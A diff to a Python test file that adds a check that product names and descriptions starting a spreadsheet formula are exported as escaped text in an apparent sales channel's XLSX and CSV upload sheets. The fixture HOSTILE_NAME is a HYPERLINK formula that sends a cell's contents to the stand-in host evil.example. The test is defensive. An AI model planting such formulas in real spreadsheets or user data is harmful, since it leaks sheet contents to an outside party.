@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import random
 from collections.abc import Iterator
@@ -161,6 +162,27 @@ def test_voso_upload_sheet_holds_pending_rows_and_uploaded_marks_them_listed(api
     text = csv_sheet.content.decode("utf-8-sig")
     assert "Cập nhật" in text and "150000" in text and "Ngừng bán" in text
     assert products[2].id not in text
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def test_upload_sheet_cells_cannot_carry_formulas(api):
+    """A name or description starting a formula comes out as text in both forms of the sheet
+    (and the portal passes this sheet through as it is)."""
+    product = make_product(channels=["voso"], name=HOSTILE_NAME, description="@SUM(A1:A9)")
+    api.deliver(CertificateIssued, product)
+    answer = api.client.get("/v1/channels/voso/upload-sheet", headers=api.headers())
+    sheet = load_workbook(io.BytesIO(answer.content)).active
+    name, description = sheet.cell(row=2, column=4), sheet.cell(row=2, column=9)
+    assert (name.data_type, name.value) == ("s", "'" + HOSTILE_NAME)
+    assert (description.data_type, description.value) == ("s", "'@SUM(A1:A9)")
+    assert sheet.cell(row=2, column=6).value == 120_000  # numbers stay numbers
+    csv_sheet = api.client.get(
+        "/v1/channels/voso/upload-sheet", params={"format": "csv"}, headers=api.headers()
+    )
+    rows = list(csv.reader(io.StringIO(csv_sheet.content.decode("utf-8-sig"))))
+    assert rows[1][3] == "'" + HOSTILE_NAME and rows[1][8] == "'@SUM(A1:A9)"
 
 
 def test_upload_sheet_is_only_for_bulk_file_channels_and_operators(api):
